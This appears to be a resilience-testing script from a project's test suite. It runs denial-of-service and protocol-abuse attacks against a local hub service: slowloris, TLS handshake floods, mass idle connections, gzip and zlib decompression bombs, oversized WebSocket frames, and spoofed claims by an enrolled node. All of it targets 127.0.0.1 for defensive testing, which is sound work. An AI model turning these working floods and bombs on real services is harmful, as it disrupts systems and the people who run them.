# SPDX-License-Identifier: Apache-2.0
"""One attack on a hub's port, until it is ended: attacker.py KIND PORT [ARGUMENTS]; says "ready" when it has had
its first effect.

    garbage     connections that send random bytes, new ones all the time
    slowloris   300 that send a ClientHello byte by byte, and 100 that do so with a request's head
    handshakes  TLS handshakes without a certificate, one after the other, from four threads; handshakes_as_node: by
                clients that call themselves nodes
    idle        10,000 connections that never send anything; those that the hub closes are made again
    token       SECRET: enrolments with a token that was used
    inflate     requests whose body says that it is gzip

With CERT KEY NODE_ID, as a node that the hub knows, or does not take:

    refused     connections with that certificate and its hello, new ones all the time
    tiny        pings as fast as they are taken, whose answers are read
    deaf        the same, but the answers are never read: a new connection when the hub has had enough
    acks        acknowledgements of ever higher revisions, by the million
    hellos      a hello after the other, each when the one before is answered; a new connection when the hub has had enough
    streams     data, credit and ends of streams that are not its own
    claims      reports, answers and requests about what belongs to others
    oversized   frames that claim to be as large as can be written
    bomb        what zlib made of 64 MB of zeros, in frames that say that they are compressed
"""

import contextlib
import gzip
import itertools
import json
import os
import select
import socket
import ssl
import sys
import threading
import time
import zlib

CLIENT_HELLO = bytes.fromhex("1603010200010001fc0303") + bytes(500)


def connect(port):
    return socket.create_connection(("127.0.0.1", port), 30)


def tls(port, cert=None, key=None, alpn=None):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if cert:
        context.load_cert_chain(cert, key)
    if alpn:
        context.set_alpn_protocols([alpn])
    return context.wrap_socket(connect(port))


def ready():
    print("ready", flush=True)


def after(n):
    """A function whose n-th call says "ready"."""
    calls = itertools.count(1)

    def call():
        if next(calls) == n:
            ready()

    return call


def garbage(port):
    done = after(200)
    while True:
        with contextlib.suppress(OSError), connect(port) as s:
            s.sendall(os.urandom(600))
        done()


def slowloris(port):
    slow = [connect(port) for _ in range(300)]
    heads = [tls(port) for _ in range(100)]
    request = b"GET /identity/v3 HTTP/1.1\r\nX-A: " + b"a" * 4000
    ready()
    for at in range(4000):
        for s in slow:
            with contextlib.suppress(OSError):
                s.send(CLIENT_HELLO[at % len(CLIENT_HELLO):][:1])
        for s in heads:
            with contextlib.suppress(OSError):
                s.send(request[at:at + 1])
        time.sleep(0.2)


def handshakes(port, alpn=None):
    done = after(200)

    def flood():
        while True:
            with contextlib.suppress(OSError), tls(port, alpn=alpn):
                pass
            done()

    for _ in range(4):
        threading.Thread(target=flood, daemon=True).start()
    threading.Event().wait()


def handshakes_as_node(port):
    handshakes(port, "demarc-node")


def idle(port):
    kept = {}
    poll = select.poll()

    def add():
        s = socket.socket()
        s.connect(("127.0.0.1", port))
        kept[s.fileno()] = s
        poll.register(s, select.POLLIN | select.POLLHUP)

    while len(kept) < 10000:
        add()
    ready()
    while True:
        for fd, _ in poll.poll():
            poll.unregister(fd)
            kept.pop(fd).close()
            with contextlib.suppress(OSError):
                add()


def requests(port, request):
    """One request after the other, on one connection as long as the hub keeps it."""
    done = after(50)
    while True:
        with contextlib.suppress(OSError), tls(port) as s:
            while s.sendall(request) is None and s.recv(65536):
                done()


def post(path, body, *headers):
    head = "".join(f"{h}\r\n" for h in ("Host: localhost", "Content-Type: application/json", f"Content-Length: {len(body)}", *headers))
    return f"POST {path} HTTP/1.1\r\n{head}\r\n".encode() + body


def token(port, secret):
    requests(port, post("/demarc/v1/enrol", json.dumps({"secret": secret, "csr": "another machine's"}).encode()))


def inflate(port):
    requests(port, post("/identity/v3/auth/tokens", gzip.compress(bytes(64 << 20)), "Content-Encoding: gzip"))


# ---- as a node ----


def upgrade(port, cert, key, extensions=""):
    s = tls(port, cert, key)
    s.sendall(("GET /demarc/v1/channel HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
               "Sec-WebSocket-Key: MDEyMzQ1Njc4OTAxMjM0NQ==\r\nSec-WebSocket-Version: 13\r\n"
               f"Sec-WebSocket-Protocol: demarc-node\r\n{extensions}\r\n").encode())
    if not s.recv(4096):
        raise ConnectionResetError("refused")
    return s


def frame(payload):
    n = len(payload)
    head = bytes([0x80 | n]) if n < 126 else bytes([0xFE]) + n.to_bytes(2, "big")
    return b"\x82" + head + bytes(4) + payload


def field(number, value):
    import test_channel  # noqa: PLC0415: only these attacks speak as a node

    return test_channel.field(number, value)


def hello(node_id):
    return frame(field(10, field(1, node_id) + field(2, "raw") + field(4, "b") + field(5, "r")))


def say(port, cert, key, node_id, messages, n_ready=500):
    """Says hello, then the messages over and over. Reads what it is told, so that only what it says hurts."""
    done = after(n_ready)
    while True:
        with contextlib.suppress(OSError), upgrade(port, cert, key) as s:
            s.sendall(hello(node_id))
            s.recv(4096)
            s.settimeout(0.0)
            for bunch in itertools.cycle(messages):
                while True:
                    with contextlib.suppress(ssl.SSLWantReadError):
                        if not s.recv(65536):
                            raise ConnectionResetError("closed")
                        continue
                    break
                s.settimeout(30)
                s.sendall(bunch)
                s.settimeout(0.0)
                done()


def refused(port, cert, key, node_id):
    done = after(50)
    while True:
        with contextlib.suppress(OSError), upgrade(port, cert, key) as s:
            s.sendall(hello(node_id))
            while s.recv(4096):
                pass
        done()


PING = b"\x62\x02\x08\x07"  # nonce 7


def tiny(port, cert, key, node_id):
    say(port, cert, key, node_id, [frame(PING) * 1000], n_ready=20)


def deaf(port, cert, key, node_id):
    done = after(2)
    while True:
        with contextlib.suppress(OSError), upgrade(port, cert, key) as s:
            s.sendall(hello(node_id))
            done()
            while True:
                s.sendall(frame(PING) * 1000)


def acks(port, cert, key, node_id):
    s = upgrade(port, cert, key)
    s.sendall(hello(node_id))
    s.recv(4096)  # the hub's hello: before it, an acknowledgement is refused
    ready()
    for first in range(1, 1 << 40, 1000):
        s.sendall(b"".join(frame(field(21, field(1, n))) for n in range(first, first + 1000)))


def hellos(port, cert, key, node_id):
    done = after(2)
    while True:
        with contextlib.suppress(OSError), upgrade(port, cert, key) as s:
            s.sendall(hello(node_id))
            while s.recv(4096):
                s.sendall(hello(node_id))
        done()


def streams(port, cert, key, node_id):
    def bunch(stream):
        data = frame(field(71, field(1, stream) + field(2, bytes(4096))))
        more = frame(field(72, field(1, stream) + field(2, 0xFFFFFFFF)))
        return data * 4 + more * 20 + frame(field(73, field(1, stream) + field(2, "the end"))) * 4

    say(port, cert, key, node_id, [bunch(n) for n in (0, 1, 2, 3, 1 << 63)])


def claims(port, cert, key, node_id, other_server, other_node, image):
    report = field(22, field(1, 1) + field(3, field(1, other_server) + field(2, 3) + field(4, "mine") + field(5, 9)))
    asked = frame(field(1, 1) + field(30, field(1, image) + field(3, 65536)))
    answer = frame(field(1, 2) + field(41, field(1, "no")))
    say(port, cert, key, node_id, [frame(report), asked * 8, answer * 50, frame(field(10, field(1, other_node)))])


def oversized(port, cert, key, node_id):
    done = after(20)
    sizes = itertools.cycle([1 << 20 | 1, 1 << 40, (1 << 63) - 1, (1 << 64) - 1])
    while True:
        with contextlib.suppress(OSError), upgrade(port, cert, key) as s:
            s.sendall(hello(node_id) + b"\x82\xff" + next(sizes).to_bytes(8, "big") + bytes(4) + bytes(65536))
            while s.recv(65536):
                pass
        done()


def bomb(port, cert, key, node_id):
    zeros = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(zeros.compress(bytes(1 << 20)) for _ in range(64))[:60000]
    compressed = bytes([0xC2]) + frame(packed)[1:]  # RSV1: RFC 7692, 6
    done = after(20)
    while True:
        with contextlib.suppress(OSError), upgrade(port, cert, key, "Sec-WebSocket-Extensions: permessage-deflate\r\n") as s:
            s.sendall(hello(node_id) + compressed)
            while s.recv(65536):
                pass
        done()


if __name__ == "__main__":
    globals()[sys.argv[1]](int(sys.argv[2]), *sys.argv[3:])
